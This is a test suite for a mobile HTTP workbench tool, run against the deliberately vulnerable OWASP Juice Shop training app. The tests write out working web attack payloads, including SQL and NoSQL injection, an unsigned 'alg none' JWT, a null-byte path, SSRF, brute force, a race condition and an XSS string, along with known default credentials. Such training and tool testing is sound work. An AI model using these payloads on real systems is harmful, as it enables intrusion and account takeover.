import { devices, type Locator, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Learner, openStage, type Stage } from './testing/stage.ts'

const SHOP = 'workbench-http'
const DOMAIN = 'juice-sh.op'

let stage: Stage
let learner: Learner
let page: Page
let bench: Locator

beforeAll(async () => {
  stage = await openStage()
  const { userAgent } = devices['iPhone 14']
  learner = await stage.learner(SHOP, {
    viewport: { width: 390, height: 844 },
    hasTouch: true,
    isMobile: true,
    userAgent,
  })
  page = learner.page
  bench = page.locator('dialog[data-workbench]')
  await learner.open('/#/search')
  await page.locator('#workbenchButton').tap()
})
afterAll(() => stage.close())

const tool = (name: string) => bench.getByRole('tab', { name }).tap()
const solved = (key: string) => stage.application.visitor(SHOP).solved(key)

/** Types a request into the repeater, sends it, and reads the response from the screen. */
async function send(...lines: string[]): Promise<{ status: string; text: string }> {
  await tool('Repeater')
  await bench.getByRole('button', { name: 'New request' }).tap()
  await bench.getByRole('group', { name: 'Edit as' }).getByRole('button', { name: 'Raw' }).tap()
  await bench.getByRole('textbox', { name: 'Request', exact: true }).fill(lines.join('\n'))
  await bench.getByRole('button', { name: 'Send', exact: true }).tap()
  const answer = bench
    .getByRole('tabpanel', { name: 'Repeater' })
    .getByRole('region', { name: 'Answer' })
    .first()
  await answer.waitFor()
  return {
    status: await answer.getByRole('status').innerText(),
    text: await answer.getByRole('region', { name: 'Answer' }).innerText(),
  }
}

const JSON_TYPE = 'Content-Type: application/json'

/** Logs in with the repeater, and copies the token from the response. */
async function tokenOf(email: string, password: string): Promise<string> {
  const { text } = await send(
    'POST /rest/user/login HTTP/1.1',
    JSON_TYPE,
    '',
    JSON.stringify({ email, password }),
  )
  return JSON.parse(text).authentication.token
}

/** Fills in the request that is sent many times. */
async function template(...lines: string[]): Promise<void> {
  await tool('Send many')
  await bench.getByRole('textbox', { name: 'Request, with positions' }).fill(lines.join('\n'))
}

async function run(planned: number): Promise<void> {
  await bench.getByRole('button', { name: 'Start' }).tap()
  await bench.getByText(`Done: ${planned} of ${planned} answered`).waitFor()
}

describe('on a phone, the workbench alone solves', () => {
  it('forged review', async () => {
    const review = { message: 'I water it down', author: `admin@${DOMAIN}` }
    const { status } = await send(
      'PUT /rest/products/1/reviews HTTP/1.1',
      JSON_TYPE,
      '',
      JSON.stringify(review),
    )
    expect(status).toContain('201')
    expect(await solved('forgedReviewChallenge')).toBe(true)
  })

  it('product tampering', async () => {
    const description = '<a href="https://owasp.slack.com" target="_blank">More...</a>'
    await send('PUT /api/Products/9 HTTP/1.1', JSON_TYPE, '', JSON.stringify({ description }))
    expect(await solved('changeProductChallenge')).toBe(true)
  })

  it('unsigned token', async () => {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
    const token = `${part({ typ: 'JWT', alg: 'none' })}.${part({ data: { email: `jwtn3d@${DOMAIN}` }, iat: 1 })}.`
    await send('GET /rest/basket/1 HTTP/1.1', `Authorization: Bearer ${token}`, '', '')
    expect(await solved('jwtUnsignedChallenge')).toBe(true)
  })

  it('poison null byte', async () => {
    const { text } = await send('GET /ftp/eastere.gg%2500.md HTTP/1.1', '', '')
    expect(text).toContain('easter egg')
    expect(await solved('nullByteChallenge')).toBe(true)
  })

  it('operators of a document store', async () => {
    const token = await tokenOf(`mc.safesearch@${DOMAIN}`, 'Mr. N00dles')
    const body = JSON.stringify({ id: { $ne: -1 }, message: 'NoSQL Injection!' })
    await send('PATCH /rest/products/reviews HTTP/1.1', JSON_TYPE, `Authorization: Bearer ${token}`, '', body)
    expect(await solved('noSqlReviewsChallenge')).toBe(true)
  })

  it('duplicate keys', async () => {
    const token = await tokenOf(`admin@${DOMAIN}`, 'admin123')
    const body = '{"ProductId":14,"BasketId":"1","quantity":1,"BasketId":"2"}'
    await send('POST /api/BasketItems/ HTTP/1.1', JSON_TYPE, `Authorization: Bearer ${token}`, '', body)
    expect(await solved('basketManipulateChallenge')).toBe(true)
  })

  it('a request that the server makes', async () => {
    const token = await tokenOf(`jim@${DOMAIN}`, 'ncc-1701')
    const secret = 'http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
    await send(
      'POST /profile/image/url HTTP/1.1',
      'Content-Type: application/x-www-form-urlencoded',
      `Cookie: token=${token}`,
      '',
      `imageUrl=${encodeURIComponent(secret)}`,
    )
    expect(await solved('ssrfChallenge')).toBe(true)
  })

  it('an accountant who does not exist', async () => {
    const row = `2, '', 'acc0unt4nt@${DOMAIN}', '', 'accounting', '', '', '', '', 1, 0, 0, NULL`
    const body = JSON.stringify({ email: `' UNION SELECT ${row}--`, password: 'a' })
    await send('POST /rest/user/login HTTP/1.1', JSON_TYPE, '', body)
    expect(await solved('ephemeralAccountantChallenge')).toBe(true)
  })

  it('one captcha for ten messages', async () => {
    const { text } = await send('GET /rest/captcha/ HTTP/1.1', '', '')
    const { captchaId, answer } = JSON.parse(text)
    const feedback = { captchaId, captcha: answer, comment: 'Fresh!', rating: 5 }
    await template('POST /api/Feedbacks/ HTTP/1.1', JSON_TYPE, '', JSON.stringify(feedback))
    await run(10)
    expect(await solved('captchaBypassChallenge')).toBe(true)
  })

  it('a forgotten password, by a list of names', async () => {
    const body = {
      email: `jim@${DOMAIN}`,
      answer: '§x§',
      new: 'kumquat! kumquat!',
      repeat: 'kumquat! kumquat!',
    }
    await template('POST /rest/user/reset-password HTTP/1.1', JSON_TYPE, '', JSON.stringify(body))
    await bench.getByLabel('List 1').selectOption('Typed, one to a line')
    await bench.getByRole('textbox', { name: 'Values' }).fill('Thomas\nGeorge\nSamuel\nWilliam')
    await run(4)
    expect(await bench.getByRole('row', { name: /^Samuel 200/ }).count()).toBe(1)
    expect(await bench.getByRole('row', { name: /^Thomas 401/ }).count()).toBe(1)
    expect(await solved('resetPasswordJimChallenge')).toBe(true)
  })

  it('many likes at the same time', async () => {
    const token = await tokenOf(`mc.safesearch@${DOMAIN}`, 'Mr. N00dles')
    const { text } = await send('GET /rest/products/1/reviews HTTP/1.1', '', '')
    const id = JSON.parse(text).data[0]._id
    await template(
      'POST /rest/products/reviews HTTP/1.1',
      JSON_TYPE,
      `Authorization: Bearer ${token}`,
      '',
      JSON.stringify({ id }),
    )
    await bench.getByLabel('How to send').selectOption('All at the same instant')
    await bench.getByLabel('How many times').fill('5')
    await run(5)
    expect(await solved('timingAttackChallenge')).toBe(true)
  })
})

describe('the repeater', () => {
  const repeater = () => bench.getByRole('tabpanel', { name: 'Repeater' })
  const isInView = (what: Locator) =>
    what.evaluate((element) => {
      const { top, bottom } = element.getBoundingClientRect()
      return top >= 0 && bottom <= innerHeight
    })

  it('has Send in view at once, and the response after it', async () => {
    await tool('Repeater')
    await bench.getByRole('button', { name: 'New request' }).tap()
    await repeater().evaluate((panel) => panel.scrollTo(0, 0))
    const sendButton = bench.getByRole('button', { name: 'Send', exact: true })
    expect(await isInView(sendButton)).toBe(true)
    await bench.getByRole('textbox', { name: 'Path and query' }).fill('/rest/products/1/reviews')
    await sendButton.tap()
    const answer = repeater().getByRole('region', { name: 'Answer' }).first().getByRole('status')
    await expect.poll(() => isInView(answer)).toBe(true)
    expect(await isInView(sendButton)).toBe(true)
  })

  it('names its requests so that they can be told apart', async () => {
    const names = await repeater()
      .getByRole('group', { name: 'Requests' })
      .getByRole('button', { name: /^(?:\d+: )?[A-Z]+ / })
      .allInnerTexts()
    expect(names.length).toBeGreaterThan(3)
    expect(new Set(names).size).toBe(names.length)
  })
})

describe('the history', () => {
  it('shows requests of the page live, and opens them in the repeater', async () => {
    await tool('History')
    await bench.getByRole('searchbox', { name: 'Search' }).fill('basket')
    await bench.getByRole('button', { name: /GET \/rest\/basket\/1/ }).tap()
    await expect.poll(() => bench.getByRole('region', { name: 'Request' }).innerText()).toContain('Bearer')
    await bench.getByRole('textbox', { name: 'Note' }).fill('look here')
    await bench.getByRole('button', { name: 'Mark', exact: true }).tap()
    await bench.getByRole('button', { name: 'Back to the list' }).tap()
    await bench.getByText('look here').waitFor()
    await bench.getByRole('button', { name: /GET \/rest\/basket\/1/ }).tap()
    await bench.getByRole('button', { name: 'Open in the repeater' }).tap()
    await expect
      .poll(() => bench.getByRole('textbox', { name: 'Path and query' }).inputValue())
      .toBe('/rest/basket/1')
  })

  it('shows requests of other windows at once', async () => {
    await tool('History')
    await bench.getByRole('button', { name: 'Back to the list' }).tap()
    await bench.getByRole('searchbox', { name: 'Search' }).fill('')
    await stage.application.visitor(SHOP).get('/rest/track-order/from-elsewhere')
    await bench.getByText('/rest/track-order/from-elsewhere').waitFor()
  })

  it('is empty after it is cleared', async () => {
    await bench.getByRole('button', { name: 'Clear' }).tap()
    await bench.getByText('Nothing yet').waitFor()
    const focused = () => bench.evaluate(() => document.activeElement?.getAttribute('role'))
    await expect.poll(focused).toBe('status')
  })
})

it('a hostile response does nothing: it is rendered without scripts', async () => {
  const script = '<script>alert(1)</script><img src=x onerror=alert(2)>'
  const review = { message: script, author: 'eve' }
  await send('PUT /rest/products/2/reviews HTTP/1.1', JSON_TYPE, '', JSON.stringify(review))
  await send('GET /rest/products/2/reviews HTTP/1.1', '', '')
  await bench.getByRole('button', { name: 'Rendered' }).last().tap()
  await bench.locator('iframe').waitFor()
  expect(await bench.locator('iframe').getAttribute('sandbox')).toBe('')
  expect(learner.alerts).toEqual([])
})

it('the history shows the cached response if the shop answered “not modified”', async () => {
  await bench.getByRole('button', { name: 'Close the workbench' }).tap()
  for (const _ of ['as it is now', 'the same again']) {
    await page.reload()
    await page.locator('.item-price').first().waitFor({ state: 'attached' })
  }
  await page.locator('#workbenchButton').tap()
  await tool('History')
  await bench
    .getByRole('button', { name: /products\/search.*304.*stored copy/ })
    .first()
    .tap()
  await bench.getByText('304: your browser used its stored copy; this is that copy.').waitFor()
  await expect
    .poll(() => bench.getByRole('region', { name: 'Answer' }).last().innerText())
    .toContain('Apple Juice')
})

it('caused no page error in any step', () => {
  expect(learner.problems).toEqual([])
})
